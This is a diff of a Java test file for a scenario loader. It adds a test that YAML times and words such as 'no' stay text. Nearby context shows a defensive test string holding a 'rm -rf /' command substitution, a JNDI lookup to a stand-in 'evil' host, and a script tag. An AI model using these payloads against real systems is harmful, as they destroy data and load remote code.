@@ -151,6 +151,25 @@ class ScenarioLoaderTest {
   }
 
   @Test
+  void unquotedTimesAndYamlOneOneWordsStayText() {
+    // YAML 1.1 would read 22:00 as the number 1320 and "no" as false; Jackson's YAML reader does
+    // neither for these, and the validator sees what the user wrote.
+    Scenario s =
+        loaded(
+            "plain.yaml",
+            """
+            name: plain
+            trigger: { type: automatic }
+            conditions:
+              time: { days: [sat, sun], between: [22:00, 06:00] }
+            actions:
+              - { type: log_event, message: no }
+            """);
+    assertEquals(List.of("22:00", "06:00"), ((Condition.Time) s.conditions()).time().between());
+    assertEquals("no", ((Action.LogEvent) s.actions().get(0)).message());
+  }
+
+  @Test
   void hostileTextInTemplatesStaysText() {
     String hostile = "at {{ trigger.source }} $(rm -rf /) ${jndi:ldap://evil/x} %s \\\\ <script>";
     Scenario s =
